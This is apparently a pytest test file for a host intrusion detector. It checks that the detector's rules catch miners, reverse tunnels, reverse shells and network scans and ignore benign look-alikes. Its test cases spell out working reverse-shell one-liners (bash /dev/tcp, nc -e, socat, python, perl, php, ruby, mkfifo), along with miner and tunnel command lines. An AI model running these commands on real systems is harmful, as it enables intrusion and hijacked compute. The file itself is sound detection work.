"""Every shipped rule fires on what it describes and stays quiet on the
look-alikes: each case names the exact set of rule ids expected."""

from __future__ import annotations

import pytest

from rome_guard.detect.engine import Engine
from rome_guard.detect.rules import SHIPPED_CATEGORIES, load_rules
from rome_guard.detect.subject import Subject
from tests.detect.helpers import process, subject, tcp

XMR_WALLET = "4" + "8" * 94
ETH_WALLET = "0x" + "ab" * 20


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(load_rules([]))


def fired(engine: Engine, s) -> set[str]:
    return {f.rule.id for f in engine.evaluate(s)}


POSITIVE = [
    # --- miners
    ("xmrig by name", ["/opt/x/xmrig", "-c", "config.json"], {"miner-known-binary"}),
    (
        "renamed xmrig, pool url",
        ["./kworker", "-o", "stratum+tcp://10.1.1.1:3333", "-u", "x"],
        {"miner-pool-url"},
    ),
    ("pool url as --url=", ["./svc", "--url=stratum+ssl://pool.example:443"], {"miner-pool-url"}),
    ("ethproxy scheme", ["./svc", "-o", "ethproxy+tcp://1.2.3.4:8008"], {"miner-pool-url"}),
    ("donate-level=", ["./svc", "--donate-level=1"], {"miner-only-flags"}),
    ("randomx flag", ["./svc", "--randomx-1gb-pages"], {"miner-only-flags"}),
    ("cpu-priority spaced", ["./svc", "--cpu-priority", "5"], {"miner-only-flags"}),
    (
        "gminer shape, generic name",
        ["./miner", "--algo", "ethash", "--server", "10.0.0.9:4444", "--user", ETH_WALLET + ".rig"],
        {"miner-algorithm-and-pool", "miner-wallet-and-pool", "miner-generic-name-with-pool"},
    ),
    (
        "lolminer renamed",
        ["./trainer", "--algo", "ETCHASH", "--pool", "10.0.0.9:4444", "--user", ETH_WALLET],
        {"miner-algorithm-and-pool", "miner-wallet-and-pool"},
    ),
    (
        "srbminer renamed",
        ["./w", "--algorithm", "randomx", "--pool", "h.example:3333", "--wallet", XMR_WALLET],
        {"miner-algorithm-and-pool", "miner-wallet-and-pool"},
    ),
    (
        "xmrig short -a attached",
        ["./w", "-arx/0", "-oh.example:3333"],
        {"miner-algorithm-and-pool"},
    ),
    ("pool domain family", ["./w", "-o", "gulf.moneroocean.stream:10128"], {"miner-pool-domain"}),
    ("pool domain in url", ["./w", "--url", "pool.supportxmr.com:443"], {"miner-pool-domain"}),
    (
        "wallet with bare pool",
        ["./w", "-o", "10.9.9.9:14444", "-u", XMR_WALLET],
        {"miner-wallet-and-pool"},
    ),
    ("pool port + wallet", ["./w", XMR_WALLET], {"miner-pool-port-supporting"}),
    ("msr modprobe", ["/sbin/modprobe", "msr", "allow_writes=on"], {"miner-msr-modprobe"}),
    # --- reverse tunnels
    ("ssh -R", ["ssh", "-R", "9000:localhost:22", "user@1.2.3.4"], {"tunnel-ssh-remote-forward"}),
    (
        "ssh -NfR bundled",
        ["ssh", "-NfR", "9000:localhost:22", "user@1.2.3.4"],
        {"tunnel-ssh-remote-forward"},
    ),
    ("ssh -fNR attached", ["ssh", "-fNR9000:localhost:22", "h"], {"tunnel-ssh-remote-forward"}),
    (
        "ssh -R after host",
        ["ssh", "h", "-N", "-R", "9000:localhost:22"],
        {"tunnel-ssh-remote-forward"},
    ),
    (
        "ssh -o RemoteForward=",
        ["ssh", "-o", "RemoteForward=9000 localhost:22", "h"],
        {"tunnel-ssh-remote-forward"},
    ),
    (
        "ssh -oRemoteForward quoted",
        ["ssh", "-oRemoteForward 9000 localhost:22", "-N", "h"],
        {"tunnel-ssh-remote-forward"},
    ),
    (
        "autossh -M 0 -R",
        ["autossh", "-M", "0", "-N", "-R", "2222:localhost:22", "h"],
        {"tunnel-ssh-remote-forward"},
    ),
    ("ssh -D", ["ssh", "-D", "1080", "-N", "h"], {"tunnel-ssh-dynamic-or-tun"}),
    ("ssh -w", ["ssh", "-w", "0:0", "h"], {"tunnel-ssh-dynamic-or-tun"}),
    (
        "ssh -o DynamicForward",
        ["ssh", "-o", "DynamicForward=1080", "h"],
        {"tunnel-ssh-dynamic-or-tun"},
    ),
    ("ssh -o Tunnel=yes", ["ssh", "-o", "Tunnel=yes", "h"], {"tunnel-ssh-dynamic-or-tun"}),
    (
        "ssh -NL",
        ["ssh", "-NL", "8888:localhost:8888", "h"],
        {"tunnel-ssh-local-forward-persistent"},
    ),
    ("ssh to 443", ["ssh", "-p", "443", "h"], {"tunnel-ssh-unusual-port"}),
    # the named tool says what it is twice: by name and by syntax (one incident)
    (
        "chisel client",
        ["./chisel", "client", "1.2.3.4:8000", "R:socks"],
        {"tunnel-tool", "tunnel-tool-syntax"},
    ),
    ("frpc", ["frpc", "-c", "frpc.toml"], {"tunnel-tool", "tunnel-tool-syntax"}),
    ("frpc, other config name", ["frpc", "-c", "/etc/frp/client.ini"], {"tunnel-tool"}),
    ("ngrok", ["ngrok", "tcp", "22"], {"tunnel-tool"}),
    ("bore", ["bore", "local", "22", "--to", "bore.pub"], {"tunnel-tool"}),
    ("cloudflared", ["cloudflared", "tunnel", "--url", "http://localhost:8080"], {"tunnel-tool"}),
    (
        "gost",
        ["gost", "-L", "rtcp://:2222/127.0.0.1:22", "-F", "relay+tls://h:443"],
        {"tunnel-tool", "tunnel-tool-syntax"},
    ),
    (
        "ligolo agent",
        ["./agent", "-connect", "1.2.3.4:11601", "-ignore-cert"],
        {"tunnel-tool", "tunnel-tool-syntax"},
    ),
    ("ligolo agent, retry", ["./agent", "-connect", "1.2.3.4:11601", "-retry"], {"tunnel-tool"}),
    ("sshuttle", ["sshuttle", "-r", "user@h", "0/0"], {"tunnel-tool"}),
    (
        "socat forward",
        ["socat", "TCP-LISTEN:2222,fork", "TCP:10.0.0.1:22"],
        {"tunnel-socat-forward"},
    ),
    # --- reverse shells
    (
        "bash -i /dev/tcp",
        ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        {"shell-dev-tcp-redirect"},
    ),
    (
        "exec 5<>/dev/tcp",
        ["sh", "-c", "exec 5<>/dev/tcp/10.0.0.1/80; sh <&5 >&5 2>&5"],
        {"shell-dev-tcp-redirect"},
    ),
    # reading a socket to stdout feeds no shell: recorded low, never killed
    (
        "exec 5<>/dev/tcp; cat <&5",
        ["sh", "-c", "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5"],
        {"shell-dev-tcp-oneway"},
    ),
    ("/dev/udp", ["bash", "-c", "sh -i > /dev/udp/10.0.0.1/53 0<&1"], {"shell-dev-tcp-redirect"}),
    ("nc -e", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], {"shell-netcat-exec"}),
    ("nc bundled -lvpe", ["nc", "-lvp", "4444", "-e/bin/bash"], {"shell-netcat-exec"}),
    ("ncat --sh-exec", ["ncat", "--sh-exec", "bash", "10.0.0.1", "4444"], {"shell-netcat-exec"}),
    (
        "socat exec",
        ["socat", "TCP:10.0.0.1:4444", "EXEC:/bin/bash,pty,stderr,setsid"],
        {"shell-socat-exec"},
    ),
    (
        "python one-liner",
        [
            "python3",
            "-c",
            "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
        ],
        {"shell-interpreter-oneliner"},
    ),
    (
        "perl one-liner",
        [
            "perl",
            "-e",
            "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton('h')));open(STDIN,'>&S');exec('/bin/sh -i');",
        ],
        {"shell-interpreter-oneliner"},
    ),
    (
        "php fsockopen",
        ["php", "-r", "$sock=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3 2>&3');"],
        {"shell-interpreter-oneliner"},
    ),
    (
        "ruby -rsocket",
        [
            "ruby",
            "-rsocket",
            "-e",
            "f=TCPSocket.open('h',4444).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
        ],
        {"shell-interpreter-oneliner"},
    ),
    (
        "mkfifo nc",
        ["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"],
        {"shell-fifo-netcat"},
    ),
    (
        "awk inet",
        ["awk", 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(42) {}}'],
        {"shell-awk-inet"},
    ),
    (
        "openssl s_client",
        ["openssl", "s_client", "-quiet", "-connect", "h:443"],
        {"shell-openssl-client-quiet"},
    ),
    # --- tunnels by syntax, whatever the binary is called
    (
        "chisel renamed, R:socks",
        ["./kworkerd", "client", "10.0.0.1:8080", "R:socks"],
        {"tunnel-tool-syntax"},
    ),
    (
        "chisel renamed, reverse port",
        ["/tmp/.x/dbus-helper", "client", "--fingerprint", "ab", "h:443", "R:2222:127.0.0.1:22"],
        {"tunnel-tool-syntax"},
    ),
    (
        "chisel server --reverse",
        ["./svc", "server", "-p", "8080", "--reverse"],
        {"tunnel-tool-syntax"},
    ),
    (
        "gost renamed",
        ["./updater", "-L", "rtcp://:2222/127.0.0.1:22", "-F", "relay+tls://10.0.0.1:443"],
        {"tunnel-tool-syntax"},
    ),
    ("gost socks5 chain", ["./x", "-L=socks5://:1080", "-F=mwss://h:443"], {"tunnel-tool-syntax"}),
    (
        "wstunnel renamed",
        ["./w", "client", "-R", "tcp://2222:localhost:22", "wss://h:443"],
        {"tunnel-tool-syntax"},
    ),
    (
        "frpc renamed, flags",
        [
            "./agentd",
            "tcp",
            "--server-addr",
            "10.0.0.1:7000",
            "--local-port",
            "22",
            "--remote-port",
            "6000",
        ],
        {"tunnel-tool-syntax"},
    ),
    ("frpc renamed, config", ["./agentd", "-c", "/etc/.cache/frpc.toml"], {"tunnel-tool-syntax"}),
    (
        "ligolo agent renamed",
        ["./sysmon", "-connect", "10.0.0.1:11601", "-ignore-cert"],
        {"tunnel-tool-syntax"},
    ),
    # --- probing
    ("nmap", ["nmap", "-sS", "10.0.0.0/24"], {"probe-scanner-binary"}),
    ("masscan", ["masscan", "-p1-65535", "10.0.0.1"], {"probe-scanner-binary"}),
    ("nc -zv", ["nc", "-zv", "10.0.0.1", "1-1024"], {"probe-netcat-zero-io"}),
    ("nc -z port list", ["nc", "-z", "-w", "1", "10.0.0.1", "22,80,443"], {"probe-netcat-zero-io"}),
    ("nc -z port operands", ["ncat", "-zn", "10.0.0.1", "22", "80"], {"probe-netcat-zero-io"}),
]

NEGATIVE = [
    ("grep pool url", ["grep", "-r", "stratum+tcp://", "/etc"]),
    ("echo donate-level", ["/bin/echo", "--donate-level", "5"]),
    ("vim miner config", ["vim", "xmrig.json"]),
    ("less miner docs", ["less", "/usr/share/doc/xmrig/README.md"]),
    ("bash echo pool url", ["bash", "-c", "echo stratum+tcp://pool:3333"]),
    ("grep /dev/tcp", ["grep", "/dev/tcp/", "notes.txt"]),
    ("echo /dev/tcp", ["bash", "-c", "echo see /dev/tcp docs"]),
    ("python prints pool", ["python3", "-c", "print('stratum+tcp://pool.minexmr.com:4444')"]),
    ("apt mentions xmrig", ["apt-get", "install", "xmrig"]),
    ("ssh host cmd", ["ssh", "user@10.0.0.1", "uptime"]),
    ("ssh host cmd with -R inside", ["ssh", "h", "ls", "-R", "/tmp"]),
    # the guard's own effective-config query: prints and exits, never connects
    ("ssh -G with a forward", ["/usr/bin/ssh", "-G", "-R", "9000:localhost:22", "-p", "443", "h"]),
    ("ssh -G bundled", ["/usr/bin/ssh", "-NGD", "1080", "-L", "8888:localhost:8888", "h"]),
    ("ssh -o other option", ["ssh", "-o", "StrictHostKeyChecking=no", "-p", "2222", "h", "true"]),
    ("ssh -o Tunnel=no", ["ssh", "-o", "Tunnel=no", "h"]),
    ("git over ssh", ["ssh", "-x", "git@github.com", "git-upload-pack 'org/repo.git'"]),
    ("git", ["git", "fetch", "origin"]),
    ("scp", ["scp", "-r", "data/", "h:/tmp/"]),
    ("rsync -e ssh", ["rsync", "-az", "-e", "ssh -p 22", "src/", "h:dst/"]),
    ("ssh -L alone", ["ssh", "-L", "8888:localhost:8888", "h"]),
    ("curl 8080", ["curl", "http://10.0.0.1:8080/health"]),
    ("jupyter", ["python3", "-m", "jupyter", "notebook", "--port", "8888"]),
    ("torchrun", ["torchrun", "--nproc_per_node=8", "--rdzv_endpoint=10.0.0.1:29500", "train.py"]),
    ("plain nc client", ["nc", "10.0.0.1", "80"]),
    # launch scripts wait for the rendezvous port with a single-port check
    ("nc -z one port", ["nc", "-z", "10.0.0.1", "29500"]),
    ("nc -zw one port", ["nc", "-zw", "2", "master-0", "29500"]),
    ("nc -vz -w one port", ["nc.openbsd", "-v", "-z", "-w", "1", "10.0.0.1", "6379"]),
    ("socat unix relay", ["socat", "UNIX-LISTEN:/tmp/s", "UNIX-CONNECT:/run/x"]),
    ("python -c socket no shell", ["python3", "-c", "import socket; print(socket.gethostname())"]),
    ("awk field", ["awk", "{print $1}", "file"]),
    ("cloudflared dns", ["cloudflared", "proxy-dns"]),
    ("chisel help", ["chisel", "--help"]),
    ("curl -L follows redirects", ["curl", "-L", "https://example.com/x.tar.gz", "-o", "x"]),
    ("gcc -L", ["gcc", "-L", "/usr/lib", "-o", "a", "a.c"]),
    ("redis client", ["redis-cli", "client", "list"]),
    ("kubectl port-forward", ["kubectl", "port-forward", "svc/x", "8080:80"]),
    ("openssl s_client -connect", ["openssl", "s_client", "-connect", "h:443", "-servername", "h"]),
    ("grep chisel syntax", ["grep", "-r", "R:socks", "notes/"]),
    ("bore help", ["bore", "--version"]),
    ("openssl s_client plain", ["openssl", "s_client", "-connect", "h:443"]),
    ("modprobe other", ["modprobe", "nvidia"]),
    ("a user named miner", ["./miner", "--help"]),
    ("wallet arg alone", ["./tool", ETH_WALLET]),
    ("0x hash in git", ["git", "show", ETH_WALLET]),
]


@pytest.mark.parametrize(("name", "argv", "expected"), POSITIVE, ids=[c[0] for c in POSITIVE])
def test_positive(engine: Engine, name: str, argv: list[str], expected: set[str]) -> None:
    connections = [tcp("10.0.0.9", 14444)] if name == "pool port + wallet" else []
    if name == "ssh to 443":
        connections = [tcp("10.0.0.9", 443)]
    assert fired(engine, subject(*argv, connections=connections)) == expected


@pytest.mark.parametrize(("name", "argv"), NEGATIVE, ids=[c[0] for c in NEGATIVE])
def test_negative(engine: Engine, name: str, argv: list[str]) -> None:
    connections = [tcp("10.0.0.9", 22)]
    if name in ("curl 8080",):
        connections = [tcp("10.0.0.1", 8080)]
    if name == "jupyter":
        connections = [tcp("10.0.0.1", 8888)]
    assert fired(engine, subject(*argv, connections=connections)) == set()


def test_shell_with_socket_on_stdio(engine: Engine) -> None:
    peer = tcp("10.0.0.1", 4444)
    assert fired(engine, subject("bash", "-i", stdio_peer=peer)) == {"shell-stdio-socket"}
    assert fired(engine, subject("python3", stdio_peer=peer)) == {"shell-stdio-socket"}


def test_shell_with_listening_or_unconnected_socket_is_quiet(engine: Engine) -> None:
    listener = tcp("0.0.0.0", 0, "LISTEN")
    assert fired(engine, subject("bash", "-i", stdio_peer=listener)) == set()
    # a server whose stdio is a socket (inetd style) is not a shell
    assert fired(engine, subject("/usr/sbin/in.tftpd", stdio_peer=tcp("10.0.0.1", 4444))) == set()


def _under(parent_stdio: dict, *parent_argv: str):
    """A shell spawned (pty.spawn) by parent_argv whose stdio is parent_stdio."""
    parent = process(*parent_argv, pid=100)
    known = {parent.key: parent_stdio}
    return Subject(
        process("/bin/sh", pid=101),
        [parent],
        (),
        {},  # its own stdio is a pty
        lambda info: known.get(info.key, {}),
    )


def test_shell_on_a_pty_driven_by_a_socket_stdio_process(engine: Engine) -> None:
    peer = tcp("10.0.0.1", 4444)
    on_socket = {0: peer, 1: peer, 2: peer}
    assert fired(engine, _under(on_socket, "python3", "-c", "...")) == {"shell-under-socket-stdio"}
    assert fired(engine, _under({1: peer}, "perl", "x.pl")) == {"shell-under-socket-stdio"}


def test_shell_on_a_pty_of_a_terminal_server_is_quiet(engine: Engine) -> None:
    # jupyter's terminal: a websocket on fd 7, the shell on a pty; stdio is a tty
    assert fired(engine, _under({}, "python3", "-m", "jupyter", "lab")) == set()
    # an inetd-style server whose stdio is a socket is not a shell or interpreter
    assert fired(engine, _under({0: tcp("10.0.0.1", 22)}, "/usr/sbin/sshd", "-i")) == set()
    listener = tcp("0.0.0.0", 0, "LISTEN")
    assert fired(engine, _under({0: listener}, "python3", "serve.py")) == set()


def test_memfd_named_like_a_miner_goes_by_that_name(engine: Engine) -> None:
    memfd = subject("3", exe="/memfd:xmrig (deleted)", comm="3")
    assert fired(engine, memfd) == {"miner-known-binary"}
    assert fired(engine, subject("3", exe="/memfd:jit-cache (deleted)", comm="3")) == set()


def test_exe_facts_are_read_at_judgement_time(engine: Engine) -> None:
    """A binary deleted after exec connects to a pool port: the exe path
    read now says so, the one cached at exec did not."""
    info = process("/opt/svc/helper", exe="/opt/svc/helper")
    pool = [tcp("10.0.0.9", 3333)]
    assert fired(engine, Subject(info, [], pool)) == set()
    now = Subject(info, [], pool, exe=lambda: "/opt/svc/helper (deleted)")
    assert fired(engine, now) == {"miner-pool-port-supporting"}
    upgraded = Subject(info, [], [tcp("10.0.0.9", 443)], exe=lambda: "/opt/svc/helper (deleted)")
    assert fired(engine, upgraded) == set()  # an upgraded service, still running


def test_pool_port_alone_never_fires(engine: Engine) -> None:
    s = subject("/usr/bin/python3", "serve.py", connections=[tcp("10.0.0.9", 3333)])
    assert fired(engine, s) == set()


def test_pool_port_from_tmp_binary(engine: Engine) -> None:
    s = subject("/tmp/.x/worker", exe="/tmp/.x/worker", connections=[tcp("10.0.0.9", 3333)])
    assert fired(engine, s) == {"miner-pool-port-supporting"}


def test_metadata_service_and_control_plane(engine: Engine) -> None:
    assert fired(engine, subject("curl", "x", connections=[tcp("169.254.169.254", 80)])) == {
        "probe-metadata-service"
    }
    assert fired(engine, subject("curl", "x", connections=[tcp("10.0.0.1", 10250)])) == {
        "probe-control-plane"
    }
    kubelet = subject("/usr/bin/kubelet", connections=[tcp("10.0.0.1", 10250)])
    assert fired(engine, kubelet) == set()


def test_shipped_categories_are_exactly_the_documented_ones() -> None:
    ruleset = load_rules([])
    assert {r.category for r in ruleset.rules} == set(SHIPPED_CATEGORIES)


def test_shipped_high_confidence_rules_kill_and_weak_evidence_alerts() -> None:
    ruleset = load_rules([])
    kills = {r.id for r in ruleset.rules if r.action == "kill"}
    assert {
        "miner-known-binary",
        "miner-pool-url",
        "tunnel-ssh-remote-forward",
        "shell-stdio-socket",
        "gpu-unregistered-consumer",
    } <= kills
    for weak in ("miner-pool-port-supporting", "probe-scanner-binary", "probe-fanout"):
        assert ruleset.get(weak).action == "alert"


def test_forwards_of_the_effective_ssh_config(engine: Engine) -> None:
    """ssh -G's answer for forwards that only a config file states."""
    from rome_guard.sensors.sshconfig import SshForwards

    def ssh(forwards: SshForwards | None, *argv: str) -> Subject:
        return Subject(process("ssh", *argv), ssh_forwards=lambda _info: forwards)

    remote = SshForwards(remote=("127.0.0.1:9000 localhost:22",))
    assert fired(engine, ssh(remote, "-N", "h1")) == {"tunnel-ssh-remote-forward"}
    assert fired(engine, ssh(SshForwards(dynamic=("1080",)), "-F", "cfg", "h1")) == {
        "tunnel-ssh-dynamic-or-tun"
    }
    assert fired(engine, ssh(SshForwards(tunnel="ethernet"), "vpn")) == {
        "tunnel-ssh-dynamic-or-tun"
    }
    # a config with no forwards, a local forward only, or no answer at all
    assert fired(engine, ssh(SshForwards(), "-F", "cfg", "h1", "true")) == set()
    assert fired(engine, ssh(SshForwards(local=("8888 localhost:8888",)), "nb")) == set()
    assert fired(engine, ssh(None, "h1", "true")) == set()


def test_tunnel_configs_known_by_their_content(engine: Engine) -> None:
    """frp and gost configs under innocent names, read by the subject's reader."""
    files = {
        "client.toml": 'serverAddr = "10.0.0.1"\nserverPort = 7000\n[[proxies]]\n'
        'name = "ssh"\ntype = "tcp"\nlocalPort = 22\nremotePort = 6000\n',
        "legacy.ini": "[common]\nserver_addr = 10.0.0.1\n[ssh]\nlocal_port = 22\nremote_port = 6000\n",
        "svc.yaml": "services:\n- name: s\n  addr: :2222\n  handler:\n    type: rtcp\n",
        "train.yaml": "model: llama\nlr: 0.0003\nserver_addr: 10.0.0.1  # the parameter server\n",
    }

    def with_config(*argv: str) -> Subject:
        return Subject(process(*argv), read_config=lambda _info, path: files.get(path, ""))

    assert fired(engine, with_config("./agentd", "-c", "client.toml")) == {"tunnel-tool-syntax"}
    assert fired(engine, with_config("./agentd", "--config=legacy.ini")) == {"tunnel-tool-syntax"}
    assert fired(engine, with_config("./updater", "-C", "svc.yaml")) == {"tunnel-tool-syntax"}
    assert fired(engine, with_config("python3", "train.py", "--config", "train.yaml")) == set()
